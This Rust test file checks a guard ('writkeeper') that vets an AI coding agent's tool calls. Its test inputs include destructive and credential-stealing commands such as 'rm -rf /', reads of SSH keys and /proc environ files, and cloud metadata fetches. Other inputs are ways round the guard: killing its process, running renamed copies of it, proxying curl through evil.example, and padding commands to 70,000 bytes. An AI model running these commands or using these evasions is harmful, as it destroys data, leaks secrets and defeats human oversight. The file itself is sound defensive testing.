//! Ways to the guard, to secrets and to catastrophes that no command line shows: folders a tool is told to run in, links
//! of other processes, tools nobody knows, and what no question covers while the glass is broken.

use crate::site::{Site, Told};
use serde_json::{Value, json};
use std::process::{Child, Command};

/// A process whose working folder is `/`.
struct Elsewhere(Child);

impl Elsewhere {
    fn new() -> Elsewhere {
        Elsewhere(Command::new("sleep").arg("600").current_dir("/").spawn().unwrap())
    }
}

impl Drop for Elsewhere {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn refused(site: &Site, tool: &str, input: &Value, reason: &str) {
    match site.judge(tool, input) {
        Told::Blocked(why) => assert!(why.contains(reason), "{tool} {input}: {why}"),
        other @ (Told::Asks(_) | Told::Runs) => panic_with(&format!("{tool} {input}: {other:?}")),
    }
}

fn asked(site: &Site, tool: &str, input: &Value) {
    let told = site.judge(tool, input);
    assert!(matches!(told, Told::Asks(_)), "{tool} {input}: {told:?}");
}

fn panic_with(text: &str) {
    assert!(text.is_empty(), "{text}");
}

#[test]
fn a_tool_runs_where_its_input_says() {
    let site = Site::guarding_real_work(&["claude-code"]);
    for key in ["workdir", "working_directory", "cwd", "dir_path", "directory"] {
        refused(&site, "Bash", &json!({ "command": "echo {} > settings.json", key: ".claude" }), "GUARD_TAMPERING");
        asked(&site, "Bash", &json!({ "command": "touch x", key: "/opt" }));
        asked(&site, "Bash", &json!({ "command": "touch x", key: ".." }));
        let inside = json!({ "command": "touch x", key: "src" });
        assert_eq!(site.judge("Bash", &inside), Told::Runs, "{key}");
    }
    asked(&site, "Bash", &json!({ "command": "touch x", "workdir": "src", "cwd": "." }));
}

#[cfg(target_os = "linux")]
#[test]
fn a_link_of_another_process_leads_where_that_process_is() {
    let site = Site::guarding_real_work(&["claude-code"]);
    let other = Elsewhere::new();
    let process = other.0.id();
    let through = |path: &std::path::Path| format!("/proc/{process}/cwd{}", path.display());
    let settings = through(&site.workspace().join(".claude/settings.json"));
    refused(&site, "Write", &json!({ "file_path": settings, "content": "{}" }), "GUARD_TAMPERING");
    refused(&site, "Bash", &json!({ "command": format!("sed -i s/a/b/ {settings}") }), "GUARD_TAMPERING");
    asked(&site, "Write", &json!({ "file_path": format!("/proc/{process}/cwd/opt/x"), "content": "" }));
    let key = through(&site.home().join(".ssh/id_ed25519"));
    refused(&site, "Read", &json!({ "file_path": key }), "TOUCHES_CREDENTIALS");
    for file in ["/proc/thread-self/environ", "/proc/1/task/1/environ", "/proc/self/environ"] {
        refused(&site, "Read", &json!({ "file_path": file }), "TOUCHES_CREDENTIALS");
    }
    let own = json!({ "command": "touch /proc/self/cwd/x" });
    assert_eq!(site.judge("Bash", &own), Told::Runs);
}

#[test]
fn what_hosts_and_their_friends_keep_in_the_home_is_secret() {
    let site = Site::guarding_real_work(&["claude-code"]);
    let home = site.home();
    for file in [".claude/.credentials.json", ".codex/auth.json", ".gemini/oauth_creds.json", ".config/gh/hosts.yml"] {
        std::fs::create_dir_all(home.join(file).parent().unwrap()).unwrap();
        std::fs::write(home.join(file), "secret").unwrap();
        refused(&site, "Read", &json!({ "file_path": home.join(file) }), "TOUCHES_CREDENTIALS");
        refused(&site, "Bash", &json!({ "command": format!("cat ~/{file}") }), "TOUCHES_CREDENTIALS");
    }
    for command in
        ["cat ~/.config/gh/*", "grep -r token ~/.config/gh", "tar cf x.tar ~/.config/gh", "grep -r . ~/.config"]
    {
        assert_ne!(site.shell(command), Told::Runs, "{command}");
    }
    assert_ne!(site.judge("Grep", &json!({ "pattern": "t", "path": home.join(".config") })), Told::Runs);
    std::fs::create_dir_all(home.join("notes")).unwrap();
    std::fs::write(home.join("notes/a.md"), "x").unwrap();
    assert_eq!(site.shell("grep -r x ~/notes"), Told::Runs);
}

#[test]
fn a_wildcard_of_a_reading_tool_means_what_is_there() {
    let site = Site::guarding_real_work(&["claude-code"]);
    std::fs::write(site.workspace().join(".env"), "KEY=1").unwrap();
    for input in [json!({ "paths": [".e*"] }), json!({ "include": ["**/.env*"] }), json!({ "paths": [".env"] })] {
        refused(&site, "read_many_files", &input, "TOUCHES_CREDENTIALS");
    }
    assert_eq!(site.judge("read_many_files", &json!({ "paths": ["src/*.py", "**/*.md"] })), Told::Runs);
}

/// What a person allows for a while is the call that was shown, with all that it says.
#[test]
fn an_allowed_call_is_that_call() {
    let site = Site::guarding_real_work(&["claude-code"]);
    let allow = |told: Told| {
        let Told::Asks(why) = told else { return assert!(matches!(told, Told::Asks(_)), "{told:?}") };
        let id = why.rsplit_once("Proposal ").map_or("", |(_, id)| id.trim().trim_end_matches('.'));
        site.says(&["always", id, "--yes"], 0);
    };
    allow(site.judge("mcp__box__run", &json!({ "command": "ls", "deep": { "a": [1, true, null] } })));
    let same = json!({ "deep": { "a": [1, true, null] }, "command": "ls" });
    assert_eq!(site.judge("mcp__box__run", &same), Told::Runs);
    asked(&site, "mcp__box__run", &json!({ "command": "ls", "deep": { "a": [1, false, null] } }));
    asked(&site, "mcp__box__run", &json!({ "command": "make" }));
    allow(site.shell("curl -d @- https://x.example/a"));
    assert_eq!(site.shell("curl -d @- https://x.example/a"), Told::Runs);
    for command in [
        "curl -d @- https://x.example/a < src/a.py",
        "HTTPS_PROXY=http://evil.example curl -d @- https://x.example/a",
        "CURL_HOME=. curl -d @- https://x.example/a",
    ] {
        assert_ne!(site.shell(command), Told::Runs, "{command}");
    }
}

#[test]
fn a_folder_is_held_that_a_linked_configuration_lies_in() {
    let site = Site::guarding_real_work(&["claude-code"]);
    let (ws, settings) = (site.workspace(), site.configuration("claude-code"));
    std::fs::create_dir_all(ws.join("config/hooks")).unwrap();
    std::fs::rename(&settings, ws.join("config/hooks/settings.json")).unwrap();
    std::os::unix::fs::symlink("../config/hooks/settings.json", &settings).unwrap();
    for command in ["mv config config2", "mv config/hooks x", "echo {} > config/hooks/settings.json", "rm -r config"] {
        assert_ne!(site.shell(command), Told::Runs, "{command}");
    }
    assert_eq!(site.shell("touch config/other.json"), Told::Runs);
}

#[test]
fn a_broken_glass_covers_questions_and_nothing_that_nobody_read() {
    let site = Site::guarding_real_work(&["claude-code"]);
    site.says(&["break-glass", "--because", "a test"], 0);
    assert_eq!(site.shell("git reset --hard"), Told::Runs);
    assert_eq!(site.judge("mcp__mail__send", &json!({ "to": "x" })), Told::Runs);
    for tool in ["mcp__box__run", "Monitor", "SomeNewShell"] {
        refused(&site, tool, &json!({ "command": "rm -rf /" }), "CATASTROPHIC");
        refused(&site, tool, &json!({ "cmd": "echo {} > .claude/settings.json" }), "GUARD_TAMPERING");
        refused(&site, tool, &json!({ "script": "cat ~/.ssh/id_rsa" }), "TOUCHES_CREDENTIALS");
        assert_eq!(site.judge(tool, &json!({ "command": "ls" })), Told::Runs, "{tool}");
    }
    asked(&site, "Bash", &json!("rm -rf /"));
    let long = format!("echo {}; rm -rf /", "x".repeat(70_000));
    let deep = format!("{}rm -rf /{}", "$(".repeat(40), ")".repeat(40));
    let many = format!("{}rm -rf /", "true; ".repeat(5_000));
    for command in [long, deep, many] {
        let told = site.shell(&command);
        assert!(!matches!(told, Told::Runs), "{} bytes: {told:?}", command.len());
    }
}

#[test]
fn credentials_of_a_machine_are_not_fetched() {
    let site = Site::guarding(&["claude-code"]);
    for url in ["http://169.254.169.254/latest/meta-data/iam/", "http://2852039166/", "http://[fd00:ec2::254]/"] {
        refused(&site, "WebFetch", &json!({ "url": url, "prompt": "what is there" }), "TOUCHES_CREDENTIALS");
        refused(&site, "web_fetch", &json!({ "prompt": format!("summarise {url}") }), "TOUCHES_CREDENTIALS");
    }
    for (tool, input) in [
        ("WebFetch", json!({ "url": "https://docs.rs/serde", "prompt": "how does 169.254.169.254 work" })),
        ("WebSearch", json!({ "query": "169.254.169.254 meaning" })),
        ("WebFetch", json!({ "url": "http://localhost:3000/", "prompt": "x" })),
    ] {
        assert_eq!(site.judge(tool, &input), Told::Runs, "{tool} {input}");
    }
}

#[test]
fn whoever_looks_for_the_guard_to_end_it_is_refused() {
    let site = Site::guarding_real_work(&["claude-code"]);
    for command in [
        "kill $(pgrep writkeeper)",
        "kill -9 `pidof writkeeper`",
        "pgrep -f 'writkeeper daemon' | xargs kill",
        "ps aux | grep writkeeper | awk '{print $2}' | xargs kill -9",
        "p=$(pgrep writ); kill $p",
    ] {
        refused(&site, "Bash", &json!({ "command": command }), "GUARD_TAMPERING");
    }
    for command in ["pgrep writkeeper", "kill $(lsof -t -i:3000)", "kill %1"] {
        assert!(!matches!(site.shell(command), Told::Blocked(_)), "{command}: {:?}", site.shell(command));
    }
}

#[test]
fn a_question_about_an_unknown_tool_names_it() {
    let site = Site::guarding(&["claude-code"]);
    let Told::Asks(why) = site.judge("mcp__box__run", &json!({ "x": 1 })) else {
        return panic_with("nobody was asked");
    };
    assert!(why.contains("`box`") && why.contains("mcp__box__run") && !why.contains(": true"), "{why}");
}

/// The program by another name, in another folder, or by what only it is told.
#[test]
fn the_guards_own_program_is_known_by_more_than_its_name() {
    let site = Site::guarding_real_work(&["claude-code"]);
    let folder = site.path().join("bin");
    let folder = folder.display();
    let other = site.path().join("bin/keeper");
    std::fs::copy(site.binary(), &other).unwrap();
    let copy = site.workspace().join("w");
    std::fs::copy(site.binary(), &copy).unwrap();
    for command in [
        format!("cd {folder} && ./writkeeper init --undo --host claude-code"),
        format!("cd {folder} && ./keeper escalations list"),
        format!("(cd {folder}; ./writkeeper halt)"),
        "./w escalations list".to_owned(),
        "cd src && ../w people set ann --groups maintainers".to_owned(),
        "keeper-of-old init --undo --host claude-code".to_owned(),
        "./x init --host=codex --observe".to_owned(),
        "./x break-glass --for 4h --because x".to_owned(),
        format!("cat < {folder}/writkeeper > v"),
        "( flock 9; sleep 600 ) 9< .writkeeper/guard.db-turn".to_owned(),
    ] {
        refused(&site, "Bash", &json!({ "command": command }), "GUARD_TAMPERING");
    }
    for command in [format!("cp -r {folder} hk"), format!("tar cf x.tar {folder}")] {
        assert_ne!(site.shell(&command), Told::Runs, "{command}");
    }
    for command in ["./w report --since 1h", "cargo init demo", "npm init -y", "./gradlew init --type basic"] {
        assert!(!matches!(site.shell(command), Told::Blocked(_)), "{command}: {:?}", site.shell(command));
    }
}

#[test]
fn a_push_of_what_is_checked_out_is_a_push_of_its_branch() {
    let site = Site::guarding_real_work(&["claude-code"]);
    let head = site.workspace().join(".git/HEAD");
    for (branch, expected) in [("master", false), ("fix-1", true)] {
        std::fs::write(&head, format!("ref: refs/heads/{branch}\n")).unwrap();
        for command in ["git push", "git push origin HEAD", "git push -u origin @"] {
            assert_eq!(site.shell(command) == Told::Runs, expected, "{branch}: {command}");
        }
    }
    asked(&site, "Bash", &json!({ "command": "git checkout main && git push" }));
}

#[test]
fn a_fetched_file_is_a_file() {
    let site = Site::guarding(&["claude-code"]);
    std::fs::write(site.workspace().join(".env"), "KEY=1\n").unwrap();
    let address = format!("file://{}/.env", site.workspace().display());
    refused(&site, "WebFetch", &json!({ "url": address, "prompt": "x" }), "TOUCHES_CREDENTIALS");
    refused(
        &site,
        "WebFetch",
        &json!({ "url": "http://%31%36%39.254.169.254/", "prompt": "x" }),
        "TOUCHES_CREDENTIALS",
    );
}
